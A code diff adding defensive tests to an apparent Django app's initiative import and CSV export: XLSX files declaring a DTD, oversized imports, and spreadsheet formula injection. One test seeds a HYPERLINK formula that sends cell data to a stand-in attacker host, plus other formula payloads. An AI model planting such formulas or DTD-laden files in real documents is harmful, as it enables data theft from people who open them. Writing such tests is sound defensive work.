@@ -309,3 +309,78 @@ def test_staff_find_the_import_from_the_list(client, staff, user):
         in client.get(reverse("observatory:initiative_list")).content.decode()
     )
     assert client.get(reverse("observatory:initiative_import")).status_code == 200
+
+
+def _xlsx_with_dtd() -> bytes:
+    """A workbook whose sheet declares a DTD (with a small entity), as a hostile file would."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active.append(["slug", "title", "brief_description"])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w") as target:
+        for entry in source.infolist():
+            data = source.read(entry)
+            if entry.filename == "xl/worksheets/sheet1.xml":
+                data = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>' + data
+            target.writestr(entry, data)
+    return output.getvalue()
+
+
+def test_an_xlsx_whose_sheet_declares_a_dtd_is_refused_with_a_message(client, staff):
+    client.force_login(staff)
+    response = client.post(
+        reverse("observatory:initiative_import"), {"file": upload("lot.xlsx", _xlsx_with_dtd())}
+    )
+    assert response.status_code == 200
+    assert "DTD" in str(response.context["form"].errors["file"])
+
+
+def test_an_import_over_the_row_limit_is_refused_before_any_check(client, staff, settings):
+    from openpyxl import Workbook
+
+    client.force_login(staff)
+    lines = ["slug,title,brief_description"] + [
+        f"ligne-{n},Ligne {n},Résumé" for n in range(imports.MAX_ROWS + 1)
+    ]
+    response = client.post(
+        reverse("observatory:initiative_import"),
+        {"file": upload("lot.csv", "\n".join(lines).encode())},
+    )
+    assert response.context["form"].errors["file"]
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet()
+    sheet.append(["slug", "title", "brief_description"])
+    for n in range(imports.MAX_ROWS + 1):
+        sheet.append([f"ligne-{n}", "Ligne", "Résumé"])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    response = client.post(
+        reverse("observatory:initiative_import"), {"file": upload("lot.xlsx", buffer.getvalue())}
+    )
+    assert response.context["form"].errors["file"]
+
+
+def test_the_public_csv_neutralises_formulas_and_the_import_reads_them_back(
+    client, staff, catalogue
+):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
+    Initiative.objects.filter(slug="assemblee-etouvie").update(
+        title=hostile, summary="-1+2", lessons="@SUM(A1)"
+    )
+    response = client.get(reverse("observatory:export_csv"))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text))}
+    row = rows["assemblee-etouvie"]
+    assert row["title"] == "'" + hostile
+    assert row["brief_description"] == "'-1+2"
+    for value in (cell for line in rows.values() for cell in line.values()):
+        assert value[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+    plan = imports.import_check(imports.import_read(io.BytesIO(text.encode()), "export.csv"))
+    by_slug = {result.slug: result for result in plan.rows}
+    assert by_slug["assemblee-etouvie"].action == "unchanged", by_slug["assemblee-etouvie"].errors
